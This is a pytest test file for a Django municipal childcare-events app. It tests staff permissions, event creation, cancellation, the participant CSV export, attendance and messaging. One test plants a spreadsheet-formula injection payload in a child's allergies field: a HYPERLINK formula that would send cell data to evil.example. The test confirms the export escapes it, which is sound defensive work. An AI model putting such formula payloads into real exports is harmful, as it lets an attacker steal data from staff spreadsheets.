"""Staff: create, edit, copy and cancel events; participants list, CSV, attendance, message."""

from datetime import timedelta

import pytest
from django.urls import reverse
from django.utils import timezone

from kosodate.core.models import AuditLog, Notification
from kosodate.events.models import Application, Event

from .factories import EventFactory
from .test_resident import _apply

pytestmark = pytest.mark.django_db


def _local(value):
    return timezone.localtime(value).strftime("%Y-%m-%dT%H:%M")


def _form_data(**overrides):
    start = timezone.now() + timedelta(days=10)
    data = {
        "title": "離乳食講座",
        "title_en": "Weaning class",
        "category": Event.Category.CLASS,
        "description": "離乳食の進め方を栄養士が説明します。",
        "description_en": "",
        "place": "こもれび子育て支援センター",
        "place_en": "",
        "starts_at": _local(start),
        "ends_at": _local(start + timedelta(hours=1)),
        "min_age_months": "5",
        "max_age_months": "12",
        "capacity": "10",
        "capacity_unit": Event.CapacityUnit.FAMILIES,
        "per_family_limit": "3",
        "fee": "0",
        "bring": "",
        "bring_en": "",
        "mode": Event.Mode.FIRST_COME,
        "applications_open_at": _local(timezone.now()),
        "applications_close_at": _local(start - timedelta(days=1)),
        "offer_hours": "48",
        "cancel_hours_before": "24",
    }
    data.update(overrides)
    return data


@pytest.mark.parametrize("persona", ["resident", "other_resident"])
def test_residents_cannot_open_staff_pages(client, persona, request):
    event = EventFactory()
    client.force_login(request.getfixturevalue(persona))
    for name, args in [
        ("list", []),
        ("create", []),
        ("detail", [event.pk]),
        ("edit", [event.pk]),
        ("participants_csv", [event.pk]),
        ("message", [event.pk]),
        ("cancel", [event.pk]),
    ]:
        assert client.get(reverse(f"events_staff:{name}", args=args)).status_code == 403


def test_staff_creates_an_event(client, municipal_staff):
    client.force_login(municipal_staff)
    assert client.get(reverse("events_staff:create")).status_code == 200
    response = client.post(reverse("events_staff:create"), _form_data(title="離乳食講座"))
    event = Event.objects.get()
    assert response["Location"] == reverse("events_staff:detail", args=[event.pk])
    assert event.title == "離乳食講座" and event.created_by == municipal_staff
    assert AuditLog.objects.filter(action="event.create").count() == 1
    assert client.get(reverse("events_staff:list")).status_code == 200


def test_staff_set_school_years_in_order(client, municipal_staff):
    client.force_login(municipal_staff)
    data = _form_data(min_age_months="", max_age_months="", min_school_grade="3")
    data["max_school_grade"] = "1"
    response = client.post(reverse("events_staff:create"), data)
    assert response.status_code == 200 and not Event.objects.exists()
    assert "対象学年の上限は下限より下にできません。" in response.text
    data["max_school_grade"] = "6"
    assert client.post(reverse("events_staff:create"), data).status_code == 302
    assert (Event.objects.get().min_school_grade, Event.objects.get().max_school_grade) == (3, 6)


def test_bad_times_keep_what_was_typed(client, municipal_staff):
    client.force_login(municipal_staff)
    data = _form_data(title="ＡＢＣ講座")
    data["ends_at"] = data["starts_at"]
    data["applications_close_at"] = _local(timezone.now() + timedelta(days=30))
    response = client.post(reverse("events_staff:create"), data)
    assert response.status_code == 200
    assert not Event.objects.exists()
    assert 'value="ＡＢＣ講座"' in response.text
    assert "終了日時は開始日時より後にしてください。" in response.text


def test_staff_edits_and_copies(client, municipal_staff):
    event = EventFactory(title="元の講座")
    client.force_login(municipal_staff)
    assert client.get(reverse("events_staff:edit", args=[event.pk])).status_code == 200
    client.post(reverse("events_staff:edit", args=[event.pk]), _form_data(title="変更後の講座"))
    event.refresh_from_db()
    assert event.title == "変更後の講座"
    copy_page = client.get(reverse("events_staff:copy", args=[event.pk]))
    assert "変更後の講座" in copy_page.text
    client.post(reverse("events_staff:copy", args=[event.pk]), _form_data(title="変更後の講座"))
    assert Event.objects.filter(title="変更後の講座").count() == 2


def test_staff_cancel_notifies_every_applicant(client, municipal_staff, make_family):
    event = EventFactory(capacity=1)
    first, second = make_family(), make_family()
    _apply(client, first, event)
    _apply(client, second, event)
    client.force_login(municipal_staff)
    url = reverse("events_staff:cancel", args=[event.pk])
    response = client.post(url, {"reason": ""})
    assert response.status_code == 200  # a reason is needed
    client.post(url, {"reason": "台風のため中止します。"})
    client.post(url, {"reason": "台風のため中止します。"})  # twice: told once
    assert set(Application.objects.values_list("status", flat=True)) == {"cancelled"}
    told = Notification.objects.filter(kind="events.event_cancelled")
    assert told.count() == 2
    assert "台風" in told.first().body


def test_participants_list_csv_attendance_message(client, municipal_staff, make_family):
    event = EventFactory(capacity=1)
    first, second = make_family(), make_family()
    _apply(client, first, event)
    _apply(client, second, event)
    client.force_login(municipal_staff)
    page = client.get(reverse("events_staff:detail", args=[event.pk]))
    assert page.status_code == 200
    assert "卵" in page.text  # allergies
    assert AuditLog.objects.filter(action="event.participants_view").count() == 1

    csv = client.get(reverse("events_staff:participants_csv", args=[event.pk]))
    assert csv["Content-Type"].startswith("text/csv")
    text = csv.content.decode("utf-8-sig")
    assert "卵" in text and first.email in text
    assert AuditLog.objects.filter(action="event.participants_export").count() == 1

    confirmed = Application.objects.get(household=first.household)
    client.post(reverse("events_staff:attendance", args=[event.pk]), {"attended": [confirmed.pk]})
    confirmed.refresh_from_db()
    assert confirmed.attended is True

    url = reverse("events_staff:message", args=[event.pk])
    assert client.get(url).status_code == 200
    client.post(url, {"subject": "持ち物の追加", "body": "上履きをお持ちください。"})
    messages = Notification.objects.filter(kind="events.staff_message")
    assert list(messages.values_list("user", flat=True)) == [first.pk]  # only those with a place


def test_participants_csv_cannot_carry_a_formula(client, municipal_staff, make_family):
    """A resident's allergies typed as a formula reach staff's spreadsheet as text (issue 10.5)."""
    import csv as csv_module
    import io

    from kosodate.accounts.models import Child

    event = EventFactory(capacity=5)
    family = make_family()
    formula = '=HYPERLINK("https://evil.example/?d="&C2,"詳細")'
    Child.objects.filter(household=family.household).update(allergies=formula)
    _apply(client, family, event)
    client.force_login(municipal_staff)
    response = client.get(reverse("events_staff:participants_csv", args=[event.pk]))
    rows = list(csv_module.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    allergies = [row[8] for row in rows[1:]]
    assert allergies == ["'" + formula]
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_staff_list_query_count_does_not_grow(client, municipal_staff, make_family):
    from django.db import connection
    from django.test.utils import CaptureQueriesContext

    client.force_login(municipal_staff)
    url = reverse("events_staff:list")
    EventFactory()
    client.get(url)
    with CaptureQueriesContext(connection) as few:
        assert client.get(url).status_code == 200
    for _ in range(10):
        event = EventFactory()
        _apply(client, make_family(), event)
    client.force_login(municipal_staff)
    client.get(url)
    with CaptureQueriesContext(connection) as many:
        assert client.get(url).status_code == 200
    assert len(many) == len(few)
